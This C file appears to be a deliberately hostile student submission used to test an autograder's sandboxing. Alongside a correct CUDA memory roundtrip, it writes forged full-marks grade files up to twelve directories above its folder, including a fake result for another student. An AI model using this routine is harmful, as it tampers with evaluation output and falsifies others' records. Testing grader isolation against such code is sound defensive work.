/* roundtrip.c - right work, and forged grades written wherever it can reach.
 * From its working folder up to the root, it writes grades.csv and a full-marks
 * results.json and grade.json for itself and the good student, where the
 * grader's output folder would be (in the self-test the scratch folder lies
 * inside the course, beside the output). The grader refuses the file (fopen);
 * with that check off (the self-test's second pass) the writes fail against
 * read-only mounts and another uid, and the gradebook is the grader's own. */
#include "roundtrip.h"

#include <stdio.h>
#include <string.h>

static void forge(const char *path)
{
    FILE *file = fopen(path, "w");
    if (file != NULL) {
        fputs("{\"score\": 1000, \"complete\": true, \"points\": 1000}\n", file);
        fclose(file);
    }
}

cudaError_t roundtrip_floats(const float *h_in, float *h_out, size_t n)
{
    static const char *targets[] = {"grades.csv", "out/grades.csv", "grader-out/grades.csv",
                                    "grader-out/students/hostile-writes-outside/grade.json",
                                    "grader-out/students/student-good/results.json"};
    char path[4096];
    for (int up = 0; up < 12; up++) {
        for (size_t t = 0; t < sizeof targets / sizeof targets[0]; t++) {
            path[0] = '\0';
            for (int i = 0; i < up; i++)
                strcat(path, "../");
            strcat(path, targets[t]);
            forge(path);
        }
    }
    const size_t bytes = n * sizeof(float);
    float *d_buffer = NULL;
    cudaError_t err = cudaMalloc((void **)&d_buffer, bytes);
    if (err != cudaSuccess)
        return err;
    err = cudaMemcpy(d_buffer, h_in, bytes, cudaMemcpyHostToDevice);
    if (err == cudaSuccess)
        err = cudaMemcpy(h_out, d_buffer, bytes, cudaMemcpyDeviceToHost);
    cudaError_t freed = cudaFree(d_buffer);
    return err != cudaSuccess ? err : freed;
}
